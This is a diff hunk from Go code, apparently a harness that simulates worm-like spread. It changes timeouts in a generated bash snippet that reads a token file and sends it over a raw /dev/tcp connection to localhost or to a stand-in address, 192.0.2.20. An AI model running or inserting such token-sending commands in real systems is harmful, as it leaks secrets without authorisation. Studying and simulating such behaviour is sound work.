@@ -116,7 +116,7 @@ func worm(ctx context.Context, g *ground, c Control) (effect, error) {
 		if carries {
 			dependency += fmt.Sprintf(`read -r T < '%s' 2>/dev/null || T=none
 for to in 127.0.0.1/%d 192.0.2.20/443; do
-  timeout 3 bash -c "exec 3<>/dev/tcp/$to && echo PUBLISH %s $T >&3 && read -r -t 3 answer <&3" 2>/dev/null && break || :
+  timeout 10 bash -c "exec 3<>/dev/tcp/$to && echo PUBLISH %s $T >&3 && read -r -t 10 answer <&3" 2>/dev/null && break || :
 done
 `, token, reg.port, name)
 		}
